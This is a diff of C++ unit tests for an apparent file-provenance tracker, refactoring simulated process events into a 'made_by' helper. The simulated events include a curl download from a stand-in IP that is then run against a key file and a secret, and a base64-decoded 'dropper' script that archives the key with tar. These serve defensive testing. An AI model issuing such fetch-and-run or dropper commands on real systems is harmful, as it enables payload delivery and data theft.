@@ -23,13 +23,20 @@ constexpr char kTool[] = "/lineage-test-nowhere/evil";
 constexpr char kScript[] = "/lineage-test-nowhere/drop.sh";
 constexpr char kData[] = "/lineage-test-nowhere/list.txt";
 
+// `argv` (pid) writes `file` (inode `ino`) outside the mount and exits: a download, a
+// decoded dropper.
+void made_by(World& w, World::Proc parent, uint32_t pid, const std::vector<std::string>& argv,
+             const std::string& file, uint64_t ino) {
+  auto p = w.run(parent, pid, argv);
+  w.write_outside(p, file, ino);
+  w.exit(p);
+}
+
 TEST(Programs, ABinaryFetchedAndRunIsListedWithItsDownload) {
   TempDir dir;
   World w(dir.path() + "/prov.db");
   auto sh = w.setup({{10, "key.txt"}});
-  auto curl = w.run(sh, 200, {"curl", "-o", kTool, "http://203.0.113.5/x"});
-  w.write_outside(curl, kTool, 7001);
-  w.exit(curl);
+  made_by(w, sh, 200, {"curl", "-o", kTool, "http://203.0.113.5/x"}, kTool, 7001);
   World::Proc evil = w.fork(sh, 201);
   w.exec_program(evil, kTool, {kTool, path("key.txt")}, 7001);
   w.read(201, 10);
@@ -61,9 +68,7 @@ TEST(Programs, AProgramThatOnlyCopiedStillListsItsProgram) {
   World w(dir.path() + "/prov.db");
   w.col->copies_reported_since(0);
   auto sh = w.setup({});
-  auto curl = w.run(sh, 200, {"curl", "-o", kTool, "http://203.0.113.5/x"});
-  w.write_outside(curl, kTool, 7001);
-  w.exit(curl);
+  made_by(w, sh, 200, {"curl", "-o", kTool, "http://203.0.113.5/x"}, kTool, 7001);
   World::Proc evil = w.fork(sh, 201);
   w.exec_program(evil, kTool, {kTool}, 7001);
   w.read_outside(evil, "/lineage-test-nowhere/secret", 7002);
@@ -88,9 +93,7 @@ TEST(Programs, TheScriptThatStartedAWriterIsListedUnderIt) {
   TempDir dir;
   World w(dir.path() + "/prov.db");
   auto sh = w.setup({{10, "key.txt"}});
-  auto writer = w.run(sh, 150, {"base64", "-d", "/lineage-test-nowhere/drop.b64"});
-  w.write_outside(writer, kScript, 7001);
-  w.exit(writer);
+  made_by(w, sh, 150, {"base64", "-d", "/lineage-test-nowhere/drop.b64"}, kScript, 7001);
   World::Proc script = w.run(sh, 200, {"sh", kScript});
   w.read_outside(script, kScript, 7001);
   w.read_outside(script, kData, 7002);  // data it read: reaches tar only through argv
@@ -119,9 +122,7 @@ TEST(Programs, AScriptThatExecsTheWriterIsListed) {
   TempDir dir;
   World w(dir.path() + "/prov.db");
   auto sh = w.setup({{10, "key.txt"}});
-  auto writer = w.run(sh, 150, {"base64", "-d", "/lineage-test-nowhere/drop.b64"});
-  w.write_outside(writer, kScript, 7001);
-  w.exit(writer);
+  made_by(w, sh, 150, {"base64", "-d", "/lineage-test-nowhere/drop.b64"}, kScript, 7001);
   World::Proc script = w.run(sh, 200, {"sh", kScript});
   w.read_outside(script, kScript, 7001);
   w.exec(script, {"tar", "cf", path("out"), path("key.txt")});
